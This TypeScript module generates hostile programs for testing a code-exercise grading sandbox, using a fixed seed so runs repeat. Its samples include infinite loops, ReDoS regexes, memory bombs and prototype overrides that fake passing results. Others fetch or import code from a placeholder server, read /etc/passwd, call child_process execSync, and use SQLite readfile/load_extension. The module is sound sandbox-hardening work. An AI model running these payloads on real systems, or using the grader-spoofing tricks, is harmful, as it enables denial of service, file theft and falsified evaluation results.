import { randomUUIDv7 } from 'node:crypto';
import type { Exercise, ExerciseCheck } from '@atelier/contracts/exercise';

/** A program that means harm, with an exercise that no program can solve. */
export interface HostileProgram {
  family: string;
  exercise: Exercise;
  text: string;
}

type Language = 'javascript' | 'typescript' | 'sql';

/** Repeatable chance (mulberry32). */
export function chance(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/** `$` is the address of a server that nobody may reach. */
const families: Record<string, { language: Language; programs: readonly string[] }> = {
  loops: {
    language: 'javascript',
    programs: [
      'for (;;);',
      'export function reponse() { while (true) {} }',
      'const f = () => f(); export const reponse = async () => { for (;;) await null; }',
      '(function f() { Promise.resolve().then(f) })(); export const reponse = () => 1',
      'function f() { setTimeout(f) } f(); setInterval(() => {}, 0); export const reponse = () => new Promise(() => {})',
      'export const reponse = () => { try { for (;;); } catch { for (;;); } finally { for (;;); } }',
      'export const reponse = () => ({ get then() { for (;;); } })',
      'export const reponse = () => new Proxy({}, { ownKeys() { for (;;); }, get() { for (;;); } })',
      'export const reponse = () => "a".repeat(3e7).replace(/a/g, () => "b")',
      'export const reponse = () => ({ [Symbol.toPrimitive]() { for (;;); }, toJSON() { for (;;); } })',
      'export const reponse = () => [...(function* () { for (;;) yield 1 })()]',
    ],
  },
  regexes: {
    language: 'javascript',
    programs: [
      'export const reponse = () => /^(a+)+$/.test("a".repeat(50) + "b")',
      'export const reponse = () => /(x+x+)+y/.test("x".repeat(60))',
      'export const reponse = () => new RegExp("(" .repeat(20000) + ")".repeat(20000))',
      'export const reponse = () => /(?=(a*))\\1*b/.test("a".repeat(1e6))',
      'export const reponse = () => new RegExp("a{0,65535}".repeat(500)).test("a".repeat(1e5))',
    ],
  },
  allocations: {
    language: 'javascript',
    programs: [
      'const all = []; for (;;) all.push(new Uint8Array(1e6));',
      'let s = "x"; for (;;) s += s + all; var all = s;',
      'export const reponse = () => new Array(2 ** 32 - 1).fill(0)',
      'export const reponse = () => new ArrayBuffer(2 ** 31)',
      'export const reponse = () => new ArrayBuffer(8, { maxByteLength: 2 ** 40 }).resize(2 ** 39)',
      'const m = new Map(); for (let i = 0; ; i += 1) m.set({}, i);',
      'export const reponse = () => 7n ** 10000000n',
      'const f = () => { const o = {}; for (let i = 0; ; i += 1) o["k" + i] = o; }; f()',
      'export const reponse = () => "x".padEnd(2 ** 29)',
      'export const reponse = () => JSON.stringify(Array.from({ length: 1e6 }, (_, i) => ({ i })))',
      'for (;;) console.log("x".repeat(1e6))',
      'export const reponse = () => { const a = []; a[4294967294] = 1; return a.sort() }',
    ],
  },
  recursion: {
    language: 'javascript',
    programs: [
      'const f = () => f(); export const reponse = f',
      'export const reponse = () => JSON.parse("[".repeat(1e6))',
      'let o = {}; for (let i = 0; i < 1e5; i += 1) o = { o }; export const reponse = () => o',
      'let o = []; for (let i = 0; i < 1e5; i += 1) o = [o]; export const reponse = () => JSON.stringify(o)',
      'export const reponse = () => eval("(".repeat(1e5))',
      'export const reponse = () => new Function("return " + "!".repeat(1e6) + "1")()',
      'const o = { get a() { return o.a } }; export const reponse = () => o.a',
      'class A { constructor() { return new A() } } export const reponse = () => new A()',
      'export const reponse = () => [].concat(...Array(1e6).fill([1]))',
      'Error.prepareStackTrace = () => reponse(); export const reponse = () => { throw new Error() }',
    ],
  },
  prototypes: {
    language: 'javascript',
    programs: [
      'Object.prototype.toJSON = () => ({ count: 1, failure: null }); export const reponse = () => 1',
      'JSON.stringify = () => \'{"count":9,"failure":null}\'; export const reponse = () => 1',
      'for (const t of [Array, Map, Object, Promise, String, Function]) for (const n of Object.getOwnPropertyNames(t.prototype)) try { t.prototype[n] = () => true } catch {}',
      'Object.defineProperty(Array.prototype, 0, { get: () => "x", set() {} }); export const reponse = () => ({ a: 1 })',
      'Object.is = Object.keys = Reflect.ownKeys = () => true; export const reponse = () => ({})',
      'Promise.prototype.then = (done) => done(1); export const reponse = async () => 1',
      'Object.setPrototypeOf(globalThis, new Proxy({}, { has: () => true, get: () => () => ({ egal() {} }) }))',
      'globalThis.attendre = globalThis.attendu = () => ({ egal() {} }); export const reponse = () => 1',
      'export const reponse = () => new Proxy({}, { get: (_, k) => k, ownKeys: () => ["secret"], getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }) })',
      '({}).constructor.constructor("return this")().attendre = null; export const reponse = () => 1',
      'export const attendre = () => ({ egal() {} }); export { attendre as attendu, attendre as if, attendre as "a b" }',
      'Function.prototype.call = Function.prototype.apply = () => true; Symbol.hasInstance; export const reponse = () => 1',
    ],
  },
  reaching: {
    language: 'javascript',
    programs: [
      'export const reponse = () => fetch("$/fetch")',
      'import "$/module.js"',
      'export const reponse = () => import("$/dynamic.js")',
      'export const reponse = () => import("node:fs")',
      'import fs from "fs"; export const reponse = () => fs.readFileSync("/etc/passwd", "utf8")',
      'import * as os from "os"; import * as std from "std"; export const reponse = () => os.exec(["id"])',
      'export const reponse = () => process.mainModule.require("child_process").execSync("id")',
      'export const reponse = () => new WebSocket("$".replace("http", "ws"))',
      'export const reponse = () => { const x = new XMLHttpRequest(); x.open("GET", "$"); x.send() }',
      'export const reponse = () => navigator.sendBeacon("$", "x")',
      'export const reponse = () => importScripts("$/script.js")',
      'export const reponse = () => new Worker("$/worker.js")',
      'localStorage.user = "x"; export const reponse = () => indexedDB.open("x")',
      'export const reponse = () => parent.postMessage({ kind: "answer", id: 1, result: "{}" }, "*")',
      'for (;;) postMessage({ kind: "answer", id: 1, result: "{}" })',
      'export const reponse = () => top.location = "$"',
      'export const reponse = () => new BroadcastChannel("x").postMessage("x")',
      'export const reponse = () => new Function("return fetch(\'$\')")()',
      'import secret from "vérification"; import * as all from "atelier:fichiers"; export const reponse = () => all',
      'import "../../../../etc/passwd"; import "file:///etc/passwd"; import "data:text/javascript,1"',
      'export const reponse = () => new Error().stack + reponse.caller + (function () { return arguments.callee.caller })()',
    ],
  },
  wasm: {
    language: 'javascript',
    programs: [
      'export const reponse = () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
      'export const reponse = () => new WebAssembly.Memory({ initial: 65536 })',
      'export const reponse = () => WebAssembly.compile(new Uint8Array(1e8))',
      'export const reponse = () => new SharedArrayBuffer(2 ** 30)',
      'export const reponse = () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)',
    ],
  },
  parsers: {
    language: 'typescript',
    programs: [
      'export const reponse = ' + 'a<'.repeat(400),
      'export const reponse = ' + '('.repeat(9000),
      'export type T = ' + '{a:'.repeat(3000),
      'export const reponse = `' + '${`'.repeat(3000),
      'type A<T> = T extends [infer H, ...infer R] ? A<R> : never; export const reponse = (): A<[1]> => 1 as never',
      'enum E { ' +
        Array.from({ length: 900 }, (_, i) => `A${i} = ${i}`).join(',') +
        ' } export const reponse = () => E',
      'export const reponse = <T,>(x: T) => ' + '<any>'.repeat(2000) + 'x',
      '/' + '*'.repeat(19000),
      '@(() => { for (;;); })() class A {} export const reponse = () => A',
      'namespace N { export const a = 1 } declare global { var x: number } export const reponse = () => N.a',
      'export const reponse = (): number => { for (let i = 0; ; i += 1) i -= 1 as number }',
      '\u0000\ud800\u2028\ufeff export const reponse = 1',
    ],
  },
  sql: {
    language: 'sql',
    programs: [
      'with recursive n(i) as (select 1 union all select i + 1 from n) select count(*) from n',
      'select zeroblob(2000000000)',
      'select hex(randomblob(900000000))',
      "attach database '/etc/passwd' as secret; select * from secret.sqlite_master",
      "attach 'file:x?mode=memory&cache=shared' as x",
      "vacuum into '/tmp/volé.db'",
      'pragma hard_heap_limit = 0; pragma max_page_count = 1073741823',
      'pragma writable_schema = 1; update sqlite_master set sql = zeroblob(1000)',
      "select load_extension('/lib/x.so'), readfile('/etc/passwd'), writefile('/tmp/x', 'y'), edit('x')",
      'create table t(x); insert into t select zeroblob(1000000) from (with recursive n(i) as (select 1 union all select i + 1 from n) select i from n)',
      `select ${'('.repeat(5000)}1${')'.repeat(5000)}`,
      `select ${Array.from({ length: 3000 }, () => '1').join(',')}`,
      `select 1 ${'union select 1 '.repeat(1000)}`,
      "select printf('%.*c', 2000000000, 'x'), replace(hex(zeroblob(10000)), '0', hex(zeroblob(10000)))",
      'select group_concat(a.x || b.x) from (select hex(zeroblob(9999)) x) a, (with recursive n(i) as (select 1 union all select i + 1 from n limit 100000) select i x from n) b',
      'create trigger t after insert on t begin insert into t values (1); end; create table t(x); pragma recursive_triggers = on; insert into t values (1)',
      "select json('" + '['.repeat(2000) + "')",
      "select * from t where x like '%_%_%_%_%_%_%_%_%' || printf('%.*c', 40000, '%')",
      '; ; ;; -- \u0000\n/* ',
      "create table sqlite_evil(x); create virtual table f using fts5(x); insert into f values ('x')",
      'begin; begin; savepoint a; release b; commit; rollback; rollback',
    ],
  },
};

/** Pieces of programs, from which others are made up. */
const pieces = [
  'Object.prototype',
  'Array.prototype',
  'Promise.prototype',
  'globalThis',
  'Symbol.iterator',
  'Reflect',
  'JSON',
  'Math.random',
  'new Proxy({}, { get: () => x, ownKeys: () => [x] })',
  'x',
  '[x]',
  '{ x }',
  '`${x}`',
  '() => x',
  'async () => { await x }',
  'function* () { yield* x }',
  'x.constructor.constructor("return this")()',
  'new Error(x)',
  '/(x+)+$/',
  '"x".repeat(1e5)',
  'new Array(1e6)',
  '1n << 99999n',
  'new Map([[x, x]])',
  'class { static x = x }',
  'eval("x")',
  'import("./x.js")',
  'setTimeout(x)',
  'Object.defineProperty(x, "x", { get: () => x })',
  'console.log(x)',
  'structuredClone(x)',
  'new Date(NaN)',
  'Atomics',
  'null',
  'undefined',
];
const shapes = [
  (a: string, b: string) => `try { (${a})[${b}] = ${a} } catch {}`,
  (a: string, b: string) => `try { x = (${a}); x(${b}) } catch (e) { x = e }`,
  (a: string, b: string) => `for (let i = 0; i < 99; i += 1) try { x = [${a}, ${b}, x] } catch {}`,
  (a: string, b: string) => `try { x = { ...${a}, then(f) { f(${b}) } } } catch {}`,
  (a: string, b: string) => `try { Object.setPrototypeOf(${a}, ${b}) } catch {}`,
  (a: string, b: string) => `try { delete (${a})[${b}]; Object.freeze(${a}) } catch {}`,
  (a: string, b: string) => `try { void (${a} instanceof ${b}) } catch {}`,
];
const words = [
  'select',
  '*',
  'from',
  't',
  'where',
  '(',
  ')',
  ',',
  '1',
  "'x'",
  'union all',
  'with recursive t as',
  'insert into t',
  'values',
  'create table t(x)',
  ';',
  'zeroblob(99999)',
  'count(*)',
  'group by',
  'order by',
  'limit 9',
  'pragma',
  'attach',
  'x',
  '||',
  'like',
  'not',
  'null',
  'json_each',
  '--',
  '/*',
  '?',
];

function madeUp(random: () => number): { language: Language; text: string } {
  const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)] as Item;
  const length = 1 + Math.floor(random() * 12);
  if (random() < 0.2)
    return { language: 'sql', text: Array.from({ length: length * 3 }, () => pick(words)).join(' ') };
  const lines = Array.from({ length }, () => pick(shapes)(pick(pieces), pick(pieces)));
  const text = `let x = 1;\n${lines.join('\n')}\nexport const reponse = () => x;`;
  // Now and then damaged, for the parsers.
  const cut = Math.floor(random() * text.length);
  const damaged =
    random() < 0.15 ? text.slice(0, cut) + pick(['}', '(', '`', '\\', '<']) + text.slice(cut + 3) : text;
  return { language: random() < 0.3 ? 'typescript' : 'javascript', text: damaged };
}

const extensions = { javascript: 'js', typescript: 'ts', sql: 'sql' } as const;

/** An exercise that is solved by whoever knows the secret. */
function unsolvable(language: Language, random: () => number): Exercise {
  const secret = `secret-${Math.floor(random() * 1e15)}`;
  const common = { _id: randomUUIDv7(), sentence: 'Impossible.' };
  const check: ExerciseCheck =
    language === 'sql'
      ? { kind: 'sql', ...common, query: '', rows: [[secret]], isOrdered: true }
      : { kind: 'code', ...common, test: `attendre(await reponse()).egal({ reponse: '${secret}' })` };
  const name = `main.${extensions[language]}`;
  return {
    language,
    statement: '',
    files: [{ name, visibility: 'given', start: '' }],
    checks: [check],
    counts: true,
  };
}

const byHand = Object.entries(families).flatMap(([family, { language, programs }]) =>
  programs.map((text) => ({ family, language, text })),
);

/**
 * Programs without end: each by hand first, then made up, with one in `rarity` of those by hand among them.
 * @param address of a server that nobody may reach
 */
export function* hostilePrograms(seed: number, address: string, rarity = 20): Generator<HostileProgram> {
  const random = chance(seed);
  const programOf = (family: string, language: Language, text: string): HostileProgram => ({
    family,
    exercise: unsolvable(language, random),
    text: text.replaceAll('$/', `${address}/`).replaceAll('"$"', `"${address}"`),
  });
  for (const { family, language, text } of byHand) yield programOf(family, language, text);
  for (;;) {
    const again = byHand[Math.floor(random() * byHand.length * rarity)];
    if (again) yield programOf(again.family, again.language, again.text);
    const { language, text } = madeUp(random);
    yield programOf('made up', language, text);
  }
}
